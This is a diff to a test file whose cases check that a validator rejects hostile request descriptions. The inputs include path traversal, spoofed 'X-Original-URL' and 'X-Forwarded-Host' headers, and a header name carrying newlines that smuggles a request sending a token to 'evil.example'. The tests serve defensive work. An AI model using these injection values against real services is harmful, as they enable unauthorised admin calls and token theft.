@@ -106,8 +106,19 @@ describe("a text of a description that a runner would take for its own", () => {
     ],
     ["a path in the folder above", { path: "/../admin/{orderId}" }, "lead elsewhere"],
     ["a path in the folder above, encoded", { path: "/%2e%2e/admin/{orderId}" }, "lead elsewhere"],
+    ["a path with a fragment", { path: "/x/{orderId}#Action=Delete" }, "is never sent"],
     ["a path with a variable", { path: "/x/{{tokenA}}/{orderId}" }, "lead elsewhere"],
     ["a path whose name is an expression", { path: "/x/{$inputs.tokenB}/{orderId}" }, "a name in its path"],
+    [
+      "a header that says which path is called",
+      header("X-Original-URL", text({ enum: ["/admin/delete"] })),
+      "says where a call goes",
+    ],
+    [
+      "a header that says which host is called",
+      header("X-Forwarded-Host", text({ enum: ["evil.example"] })),
+      "says where a call goes",
+    ],
     ["the name of a header", header("X-N\n\nGET https://evil.example/{{tokenA}}\nX", text({})), "the name of a header"],
     ["the name of a query parameter", query("$inputs.tokenB", text({})), "the name of a query"],
     [
